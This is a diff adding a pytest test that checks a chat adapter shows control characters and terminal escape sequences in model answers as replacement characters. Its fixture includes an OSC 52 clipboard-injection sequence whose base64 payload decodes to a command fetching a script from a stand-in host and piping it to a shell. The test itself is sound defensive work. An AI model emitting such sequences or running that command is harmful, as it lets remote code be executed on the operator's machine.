@@ -219,3 +219,14 @@ async def test_a_line_still_unanswered_in_time_ends_the_chat_with_an_error(
     )
     with pytest.raises(AdapterError, match=r"1 message\(s\) not answered in time"):
         await _after_a_crashed_run(settings, 60, io.StringIO())  # alive to the end
+
+
+async def test_escape_sequences_in_an_answer_never_reach_the_terminal(tmp_path: Path) -> None:
+    """An answer quotes documents and the model: an OSC 52 sequence in either wrote the
+    operator's clipboard, and others set the title or cleared the screen (a helper's review).
+    Control characters are shown as U+FFFD; line feeds and tabs stay."""
+    clipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07"
+    answer = f"{clipboard}Refunds\x1b[2J take\x9b31m 5 days.\r\nSteps:\tone"
+    shown = await _chat(_settings(tmp_path), ScriptedBackend(lambda request: answer), "hi\n")
+    assert not any(c in shown for c in "\x1b\x07\x9b\r")
+    assert shown.endswith("take\ufffd31m 5 days.\ufffd\nSteps:\tone\n")
